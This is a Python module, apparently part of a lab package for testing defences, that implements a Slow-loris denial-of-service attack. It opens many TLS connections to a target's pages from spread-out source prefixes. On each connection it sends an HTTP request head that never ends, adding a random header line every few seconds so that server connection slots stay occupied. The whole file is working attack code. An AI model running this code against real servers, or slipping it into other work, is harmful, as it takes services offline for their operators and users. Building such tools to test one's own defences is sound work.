"""Slow-loris: requests whose head never ends. A line now and then keeps each of them alive, and with it a
place at the server."""

from __future__ import annotations

import random

from pydantic import Field

from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.dialling import Dialler, DialParameters, Manner, request_head
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls


class SlowLoris(DialParameters):
    """How slow."""

    turn_s: float = Field(default=3.0, gt=0)
    """From one line of the head to the next, on average."""


SLOW_LORIS = Attack(
    name="slow-loris",
    unit=Unit.CONNECTIONS,
    summary="requests over TLS whose head never ends, a line every few seconds",
    defaults=SlowLoris(rate=600, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "slow_loris"),
)


def manner(order: Order, parameters: SlowLoris) -> Manner:
    """What the bots do."""

    def first(chosen: random.Random) -> bytes:
        return request_head(order, chosen, "GET", chosen.choice(order.target.pages), "Accept: */*")

    def more(chosen: random.Random) -> bytes:
        return f"X-{chosen.getrandbits(24):06x}: {chosen.getrandbits(24):06x}\r\n".encode()

    return Manner(context=careless_tls("http/1.1"), first=first, more=more, turn_s=parameters.turn_s)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = SlowLoris.model_validate(order.parameters)
    Dialler(order, parameters, manner(order, parameters), tally).run()


if __name__ == "__main__":
    run_sender(carry_out)
